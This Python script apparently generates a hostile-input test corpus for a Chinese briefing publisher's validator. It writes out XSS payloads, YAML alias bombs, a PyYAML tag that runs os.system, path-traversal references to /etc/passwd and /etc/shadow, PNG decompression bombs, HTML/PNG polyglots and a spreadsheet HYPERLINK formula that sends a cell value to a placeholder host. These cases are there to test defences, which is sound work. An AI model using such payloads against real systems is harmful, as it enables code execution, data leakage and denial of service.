"""Write the bad-input corpus (``tests/hostile/corpus``): one file per case.

Run ``python tests/hostile/make_corpus.py`` after changing a case. File names say what
``check`` must report: ``<case>.<CODE>.<ext>`` (that rule must fire) or ``<case>.any.<ext>``
(whatever ``check`` says, nothing may crash, and a clean ``check`` must build).
Folders: ``articles/`` (placed in an issue), ``settings/`` (replaces briefing.yaml),
``issues/`` (replaces issue.yaml), ``pictures/`` (referenced by an article as images/x.<ext>),
``manifests/`` (the issue's 签发 record ``manifest.json``, beside a good article).
"""

from __future__ import annotations

import io
import struct
import zlib
from pathlib import Path

HERE = Path(__file__).parent / "corpus"

FM = "---\ntitle: {title}\nsource: 建设管理局\n---\n\n{body}\n"
BODY = "今年以来，新区聚焦重点工程建设，推动26个项目按期开工。"


def article(title: str = "测试文稿", body: str = BODY) -> str:
    return FM.format(title=title, body=body)


LAUGHS = "\n".join(
    ['a: &a ["哈哈", "哈哈", "哈哈", "哈哈", "哈哈", "哈哈", "哈哈", "哈哈", "哈哈"]']
    + [
        f"{chr(98 + i)}: &{chr(98 + i)} [*{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}, *{chr(97 + i)}]"
        for i in range(8)
    ]
)
SCRIPT = "<script>alert(1)</script>"

ARTICLES: dict[str, str | bytes] = {
    "billion-laughs.F011.md": f"---\ntitle: 笑\nsource: 局\n{LAUGHS}\n---\n\n{BODY}\n",
    "alias.F011.md": "---\ntitle: &t 标题\nsource: *t\n---\n\n" + BODY + "\n",
    "deep-nesting.F011.md": "---\ntitle: 深\nsource: 局\nx: "
    + "[" * 100
    + "]" * 100
    + "\n---\n\n"
    + BODY
    + "\n",
    "control-title.F010.md": article(title="标题\x01控制"),
    "control-body.F010.md": article(body="正文\x07响铃，\x1b[31m红色\x00。"),
    "control-c1.F010.md": article(body="正文\x85\x9b。"),
    "noncharacter.F010.md": article(body="正文\ufffe\uffff。"),
    "escaped-control.F010.md": '---\ntitle: "标题\\x01转义"\nsource: "局\\u0007"\n---\n\n'
    + BODY
    + "\n",
    "escaped-surrogate.F002.md": '---\ntitle: "标题\\ud800"\nsource: 局\n---\n\n' + BODY + "\n",
    "control.F010.yaml": "title: 标题\nsource: 局\nbody: |\n  正文\x02。\n",
    "gb18030.F001.md": article(body="这是一篇用 GB18030 保存的文稿。").encode("gb18030"),
    "utf16.F001.md": article().encode("utf-16"),
    "big5.F001.md": "---\ntitle: 繁體文稿\nsource: 建設管理局\n---\n\n這是一篇用 Big5 保存的文稿。\n".encode(
        "big5"
    ),
    "broken-yaml.F002.md": "---\ntitle: [未闭合\nsource: 局\n---\n\n" + BODY + "\n",
    "tab-indent.F002.md": "---\ntitle: 标题\n\tsource: 局\n---\n\n" + BODY + "\n",
    "no-front-matter.F003.md": BODY + "\n",
    "unclosed-front-matter.F003.md": "---\ntitle: 标题\nsource: 局\n\n" + BODY + "\n",
    "empty-file.F003.md": "",
    "only-front-matter.F004.md": "---\ntitle: 只有元数据\nsource: 局\n---\n",
    "not-mapping.F005.yaml": "- 一\n- 二\n",
    "unknown-key.M002.md": "---\ntitle: 标题\nsource: 局\ntitel: 错字\n---\n\n" + BODY + "\n",
    "title-list.M003.md": "---\ntitle: [一, 二]\nsource: 局\n---\n\n" + BODY + "\n",
    "duplicate-key.M004.md": "---\ntitle: 一\ntitle: 二\nsource: 局\n---\n\n" + BODY + "\n",
    "script-body.H001.md": article(body=f"正文{SCRIPT}结束。\n\n<img src=x onerror=alert(1)>"),
    "javascript-link.any.md": article(body="请点击[这里](javascript:alert(1))查看。"),
    "data-link.any.md": article(body="请点击[这里](data:text/html;base64,PHNjcmlwdD4=)查看。"),
    "script-everywhere.any.md": (
        f'---\ntitle: "{SCRIPT}标题"\nsource: "{SCRIPT}"\nsubtitle: "<b>副题</b>"\n'
        f'column: "{SCRIPT}"\nnote: "{SCRIPT}"\nauthor: "\'\\"><svg onload=alert(1)>"\n---\n\n'
        f"# {SCRIPT}\n\n正文`{SCRIPT}`。\n\n```html\n{SCRIPT}\n```\n\n| {SCRIPT} | b |\n|---|---|\n| c | d |\n\n"
        f"![{SCRIPT}](images/none.png)\n"
    ),
    "dotdot-picture.P002.md": article(body="![图](../../../../../../etc/passwd)"),
    "absolute-picture.P002.md": article(body="![图](/etc/passwd)"),
    "remote-picture.P002.md": article(body="![图](http://example.com/a.png)"),
    "missing-picture.P001.md": article(body="![图](images/nothing-here.png)"),
    "text-as-picture.P003.md": article(body="![图](images/text-as-picture.png)"),
    "truncated-jpeg.P004.md": article(body="![图](images/truncated.jpg)"),
    "bare-png-signature.P004.md": article(body="![图](images/bare-signature.png)"),
    "png-bomb.P004.md": article(body="![图](images/bomb.png)"),
    "zero-size-png.P004.md": article(body="![图](images/zero.png)"),
    "deep-quote.any.md": article(body="> " * 400 + "深层引用，。"),
    "deep-list.any.md": article(body="\n".join("  " * i + "- 项" for i in range(300))),
    "many-brackets.any.md": article(body="[" * 5000 + "中文" + "](" * 3000),
    "many-emphasis.any.md": article(body="*中文_" * 3000),
    "newline-title.any.md": '---\ntitle: "第一行\\n第二行"\nsource: 局\n---\n\n' + BODY + "\n",
    "bom-crlf.any.md": b"\xef\xbb\xbf" + article().replace("\n", "\r\n").encode(),
    "cr-only.any.md": article().replace("\n", "\r").encode(),
    "huge-order.any.md": "---\ntitle: 序\nsource: 局\norder: "
    + "9" * 300
    + "\n---\n\n"
    + BODY
    + "\n",
    "weird-unicode.any.md": article(
        title="标题\u202e倒序\u200b零宽", body="正文\u2028分隔\u2029段落\U0001f600。"
    ),
    "unmatched-paren.any.md": article(body="正文)括号(不配对,后)。"),
    "html-comment-open.any.md": article(body="正文<!-- 没有结束的注释，后"),
    "yaml-body-links.any.yaml": "title: 标题\nsource: 局\nbody: |\n  正文[链接](http://a.b/c,d)中文,后。\n",
    "yaml-binary-tag.F003.md": "---\n!!binary aGVsbG8=\n",
    # round two (#22)
    "png-bomb-40k.P004.md": article(body="![图](images/bomb-40k.png)"),
    "png-html-polyglot.P004.md": article(body="![图](images/polyglot.png)"),
    "svg-named-png.P003.md": article(body="![图](images/svg-named.png)"),
    "html-with-png-signature.P004.md": article(body="![图](images/html-signature.png)"),
    "formula-source.any.md": FM.format(title="公式", body=BODY).replace(
        "source: 建设管理局", 'source: "=HYPERLINK(\\"http://x.example/?d=\\"&B3,\\"详情\\")"'
    ),
    "escape-in-title.F010.md": '---\ntitle: "标题\\e[2J清屏"\nsource: 局\n---\n\n' + BODY + "\n",
    "bidi-title.any.md": article(title="标题\u202e倒序\u2066隔离"),
    "many-findings.any.md": article(body="今年以来,街道把辖区划分为42个网格.\n\n" * 1000),
}

SETTINGS: dict[str, str | bytes] = {
    "billion-laughs.F011.yaml": f"name: 简报\nissuer: 办公室\n{LAUGHS}\n",
    "unknown-key.M002.yaml": "name: 简报\nissuer: 办公室\nnmae: 错\n",
    "broken.F002.yaml": "name: 简报\nissuer: [办公室\n",
    "gb18030.F001.yaml": "name: 简报信息\nissuer: 办公室\n".encode("gb18030"),
    "control.F010.yaml": "name: 简报\x01\nissuer: 办公室\n",
    "not-mapping.F005.yaml": "just text\n",
    "python-tag.F002.yaml": "name: !!python/object/apply:os.system ['echo pwned']\nissuer: 办公室\n",
    "script-everywhere.any.yaml": (
        f'name: "{SCRIPT}"\nissuer: "{SCRIPT}"\nreadership: "{SCRIPT}"\nclassification: "{SCRIPT}"\n'
        f'distribution:\n  "{SCRIPT}": "{SCRIPT}"\ncredits:\n  编辑: "{SCRIPT}"\n'
    ),
}

ISSUES: dict[str, str | bytes] = {
    "billion-laughs.F011.yaml": f"year: 2018\nnumber: 28\ntotal: 646\ndate: 2018-12-20\n{LAUGHS}\n",
    "broken.F002.yaml": "year: 2018\nnumber: [28\n",
    "unknown.M002.yaml": "year: 2018\nnumber: 28\ntotal: 646\ndate: 2018-12-20\npublish: true\n",
    "impossible-date.M003.yaml": "year: 2018\nnumber: 28\ntotal: 646\ndate: 2018-02-30\n",
    "dotdot-order.M007.yaml": "year: 2018\nnumber: 28\ntotal: 646\ndate: 2018-12-20\norder: [../../../etc/passwd]\n",
    "script-special.any.yaml": f'year: 2018\nnumber: 28\nspecial: "{SCRIPT}"\ndate: 2018-12-20\n',
}


def png(width: int, height: int, *, data: bytes | None = None) -> bytes:
    def chunk(kind: bytes, body: bytes) -> bytes:
        return (
            struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))
        )

    header = struct.pack(">IIBBBBB", width, height, 8, 2, 0, 0, 0)
    raw = data if data is not None else zlib.compress(b"\x00" * (1 + 3 * width) * height)
    return b"\x89PNG\r\n\x1a\n" + chunk(b"IHDR", header) + chunk(b"IDAT", raw) + chunk(b"IEND", b"")


def jpeg() -> bytes:
    from PIL import Image

    out = io.BytesIO()
    Image.new("RGB", (64, 48), (200, 30, 30)).save(out, "JPEG")
    return out.getvalue()


HTML = b"<!DOCTYPE html><html><body><script>alert(document.domain)</script></body></html>"

PICTURES: dict[str, bytes] = {
    "text-as-picture.png": b"this is not a picture\n",
    "truncated.jpg": jpeg()[:300],
    "bare-signature.png": b"\x89PNG\r\n\x1a\n",
    "bomb.png": png(100_000, 100_000, data=zlib.compress(b"\x00" * 1000)),
    "zero.png": png(0, 0, data=zlib.compress(b"")),
    "bomb-40k.png": png(40_000, 40_000, data=zlib.compress(b"\x00" * 4096)),
    "polyglot.png": png(8, 8) + HTML,
    "svg-named.png": b'<svg xmlns="http://www.w3.org/2000/svg" onload="alert(1)"/>',
    "html-signature.png": b"\x89PNG\r\n\x1a\n" + HTML,
}

# A good record's shape, for the records below (the digests are of nothing in particular).
DIGEST = "0" * 64


def record(inputs: dict[str, object] | None = None, **extra: object) -> str:
    import json

    data = {
        "format": "briefing-manifest/1",
        "issue": "2018-028",
        "inputs": inputs if inputs is not None else {},
        "settings": {},
        "outputs": {},
        **extra,
    }
    return json.dumps(data, ensure_ascii=False, indent=2) + "\n"


MANIFESTS: dict[str, str | bytes] = {
    "deep-nesting.R002.json": '{"format": ' + "[" * 10_000 + "]" * 10_000 + "}",
    "dotdot-input.R002.json": record({"../target.txt": {"sha256": DIGEST}}),
    "dotdot-inside.R002.json": record({"issues/2018-028/../../../etc/passwd": {"sha256": DIGEST}}),
    "absolute-input.R002.json": record({"/etc/shadow": {"sha256": DIGEST}}),
    "windows-input.R002.json": record({"C:\\Windows\\win.ini": {"sha256": DIGEST}}),
    "other-file.R002.json": record({"notes/secret.txt": {"sha256": DIGEST}}),
    "settings-dotdot.R002.json": record(settings={"../briefing.yaml": {"sha256": DIGEST}}),
    "bad-sha.R002.json": record({"issues/2018-028/01-good.md": {"sha256": "xyz"}}),
    "inputs-list.R002.json": record([]),  # type: ignore[arg-type]
    "wrong-format.R002.json": '{"format": "briefing-manifest/0"}\n',
    "not-json.R002.json": "{broken\n",
    "huge-number.R002.json": '{"format": ' + "9" * 5000 + "}\n",
    "gb18030.R002.json": '{"format": "签发记录"}\n'.encode("gb18030"),
    "empty.R002.json": "",
    "top-level-list.R002.json": "[]\n",
}


def main() -> None:
    for folder, files in (
        ("articles", ARTICLES),
        ("settings", SETTINGS),
        ("issues", ISSUES),
        ("pictures", PICTURES),
        ("manifests", MANIFESTS),
    ):
        target = HERE / folder
        target.mkdir(parents=True, exist_ok=True)
        for name, content in files.items():
            data = content.encode("utf-8") if isinstance(content, str) else content
            (target / name).write_bytes(data)


if __name__ == "__main__":
    main()
